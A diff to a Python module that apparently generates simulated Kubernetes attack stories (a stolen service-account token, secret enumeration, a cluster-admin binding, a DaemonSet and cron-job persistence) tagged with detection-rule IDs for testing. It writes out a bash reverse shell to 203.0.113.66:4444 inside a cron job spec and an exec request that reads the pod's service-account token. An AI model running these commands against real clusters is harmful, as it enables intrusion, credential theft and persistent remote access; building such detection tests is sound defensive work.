@@ -29,11 +29,26 @@ _OPS_LEGACY: Final = (
 _IMAGE: Final = "docker.example.com/tools/tuner:latest"
 _BACK: Final = ("bash", "-c", "bash -i >& /dev/tcp/203.0.113.66/4444 0>&1")
 _SHELL: Final = {"containers": [{"name": "rotate", "image": _IMAGE, "command": _BACK}]}
+_SECRETS: Final = {
+    "payments": (
+        "gateway-credentials",
+        "ledger-db",
+        "settlement-key",
+        "webhook-key",
+        "registry-credentials",
+        "api-tls",
+    ),
+    "identity": ("signing-key", "session-key", "oidc-client", "mail-account", "directory-bind"),
+    "data": ("orders-superuser", "orders-app", "reports-reader", "warehouse-key", "backup-bucket"),
+}
 _UNRELATED: Final = "no relationship found between node 'worker-3' and this object ({})"
 
 
 class Step(NamedTuple):
-    """One step of a story: what was done, the catalog rows it belongs to, and the requests that prove it."""
+    """One step of a story: what was done, the catalog rows it belongs to, and the requests that prove it.
+
+    A row may have no rule yet; requests that only follow from others (the pods of a workload) belong to none.
+    """
 
     text: str
     detections: tuple[str, ...]
@@ -125,7 +140,8 @@ def _stolen_token(teller: Teller, cast: Cast) -> None:
         ci,
         [_CAN_I, *[_MAY_I] * 6],
     )
-    kinds = ("core/namespaces", "core/nodes", "core/pods", "core/serviceaccounts", "core/configmaps")
+    kinds = [f"core/{kind}" for kind in ("namespaces", "nodes", "pods", "serviceaccounts", "configmaps")]
+    kinds += [f"{_RBAC}/{kind}" for kind in ("clusterroles", "clusterrolebindings")]
     teller.step("It looks around in the whole cluster", "A08 B05", ci, [Ask(f"list {kind}") for kind in kinds], 1.5)
     pod = "payments/payments-api-5f7d8c9b66-q4z8n"
     reading = "?command=cat&command=%2Fvar%2Frun%2Fsecrets%2Fkubernetes.io%2Fserviceaccount%2Ftoken&stdout=true"
@@ -138,12 +154,12 @@ def _stolen_token(teller: Teller, cast: Cast) -> None:
 
 
 def _spread(teller: Teller, api: Identity, cast: Cast) -> None:
-    lists = [Ask(f"list core/secrets {namespace}/") for namespace in ("payments", "identity", "data")]
+    lists = [Ask(f"list core/secrets {namespace}/") for namespace in _SECRETS]
     teller.step(
         "The account of that pod now speaks from the same address and lists secrets", "A08 F03 F08", api, lists, 30
     )
-    names = ("payments/gateway-credentials", "payments/ledger-db", "identity/signing-key", "data/orders-superuser")
-    teller.step("It reads some of them", "A08 F01 F05 F08", api, [Ask(f"get core/secrets {name}") for name in names], 4)
+    reads = [Ask(f"get core/secrets {namespace}/{name}") for namespace, names in _SECRETS.items() for name in names]
+    teller.step("It reads sixteen of them, one after the other", "A08 F01 F05 F08", api, reads, 4)
     name = f"tmp-dbg-{teller.scribe.hex(4)}"
     subject = {"kind": "ServiceAccount", "name": "api", "namespace": "payments"}
     body = bodies.encode(bodies.binding(name, "cluster-admin", subject))
@@ -170,7 +186,7 @@ def _settle(teller: Teller, api: Identity, cast: Cast) -> None:
     wanted, *made = (bodies.pod("kube-system", "node-tuner", "DaemonSet", spec, name) for name in ("", *names))
     pods = [Ask("create core/pods kube-system/", 201, sent=wanted, answered=answered) for answered in made]
     controller = cast.controller("daemon-set-controller")
-    teller.step("The controller starts it on four nodes", "D01 D05", controller, pods, 0.1)
+    teller.step("The controller starts it on four nodes", "", controller, pods, 0.1)
     cron = bodies.encode(bodies.cron_job("kube-system", "log-rotate", "*/30 * * * *", _SHELL))
     stay = Ask("create batch/cronjobs kube-system/log-rotate", 201, sent=cron, answered=cron)
     teller.step("It comes back every half hour: a cron job opens a shell", "C14 G01 N11", api, [stay], 60)
@@ -183,7 +199,7 @@ def _anonymous_scan(teller: Teller, _: Cast) -> None:
     tries = [Ask(f"list core/{kind}", 403, "") for kind in kinds]
     tries += [Ask(f"get {path}", 403) for path in ("/metrics", "/logs", "/debug/pprof/", "/apis", "/api/v1")]
     tries += [Ask(f"list core/secrets {ns}/", 403, "") for ns in ("default", "kube-system", "payments", "ci")]
-    teller.step("Somebody without credentials tries one path after the other", "A03 A05 A06 A07", nobody, tries, 0.5)
+    teller.step("Somebody without credentials tries one path after the other", "A03 A05 A06", nobody, tries, 0.5)
     stranger = unknown(peer, "python-requests/2.32.4")
     guesses = [Ask("list core/pods", 401, "")] * 6
     teller.step("Made-up tokens are refused", "A05", stranger, guesses, 0.8)
